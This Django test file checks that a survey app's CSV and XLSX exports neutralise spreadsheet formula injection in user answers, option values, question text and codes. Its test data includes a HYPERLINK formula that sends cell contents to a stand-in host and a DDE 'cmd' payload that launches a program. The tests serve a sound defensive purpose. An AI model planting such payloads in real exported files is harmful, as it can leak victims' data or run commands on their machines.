"""Survey files never carry a formula: text a user typed that starts with
= + - @ (or a tab) reaches CSV with a leading quote and XLSX as a string
cell; numbers stay numbers."""

import csv
import io

import pytest
from openpyxl import load_workbook

from monitoring.models import Answer, Question, Response
from tests.factories import CampaignFactory

from .conftest import add_responses

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://x.example/?d="&A1,"ver")', "+1", "@SUM(A1:A9)", "-2+3", "\t=1+1"]


def all_cells(text):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_raw_responses_csv_neutralises_formulas_in_answers_and_options(monitoring_world, login):
    campaign = CampaignFactory(slug="rme-2022", year=2022, status="closed")
    frequency = Question.objects.get(instrument=campaign.instrument, code="RME_FRECUENCIA_ADECUADA")
    frequency.options = [{"value": "@SUM(A1:A9)", "es": "Insuficiente", "en": "Too low"}]
    frequency.save()
    comments = Question.objects.get(instrument=campaign.instrument, code="RME_COMENTARIOS")
    responses = add_responses(campaign, monitoring_world.network_a, [4] * len(FORMULAS))
    Answer.objects.bulk_create(
        [
            Answer(response=r, question=comments, text=t)
            for r, t in zip(responses, FORMULAS, strict=True)
        ]
        + [Answer(response=r, question=frequency, value=1) for r in responses]
    )
    client = login(monitoring_world.analyst)
    text = client.get("/monitoring/campaigns/rme-2022/responses.csv").content.decode()
    # Free text comes in a file of its own.
    text += client.get("/monitoring/campaigns/rme-2022/texts.csv").content.decode()
    cells = all_cells(text)
    for formula in FORMULAS:
        assert "'" + formula in cells
    assert "'@SUM(A1:A9)" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    # Likert answers are still plain numbers.
    assert "4" in cells


def test_results_csv_and_xlsx_keep_text_as_text(monitoring_world, login):
    campaign = CampaignFactory(
        slug="rme-2023", year=2023, status="published", name="=HYPERLINK(1) encuesta"
    )
    add_responses(campaign, monitoring_world.network_a, [4] * 6)
    question = Question.objects.get(instrument=campaign.instrument, code="RME_META_COMUN")
    question.text_es = "=cmd|' /C calc'!A0"
    question.save()
    Question.objects.filter(pk=question.pk).update(code="-2+3")
    client = login(monitoring_world.analyst)

    text = client.get("/monitoring/campaigns/rme-2023/results.csv?scope=national").content.decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    codes = [row["code"] for row in rows]
    assert "'-2+3" in codes and "-2+3" not in codes
    first = next(row for row in rows if row["code"] == "'-2+3")
    assert first["n"] == "6" and first["count_4"] == "6"

    response = client.get("/monitoring/campaigns/rme-2023/results.xlsx?scope=national")
    sheet = load_workbook(io.BytesIO(response.content))["national"]
    assert sheet["A1"].value == "=HYPERLINK(1) encuesta" and sheet["A1"].data_type == "s"
    header = [c.value for c in sheet[4]]
    row = next(r for r in sheet.iter_rows(min_row=5) if r[0].value == "-2+3")
    values = dict(zip(header, row, strict=True))
    assert values["code"].data_type == "s"
    assert values["text"].value == "=cmd|' /C calc'!A0" and values["text"].data_type == "s"
    assert values["n"].value == 6 and values["n"].data_type == "n"
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)
    assert Response.objects.filter(campaign=campaign).count() == 6
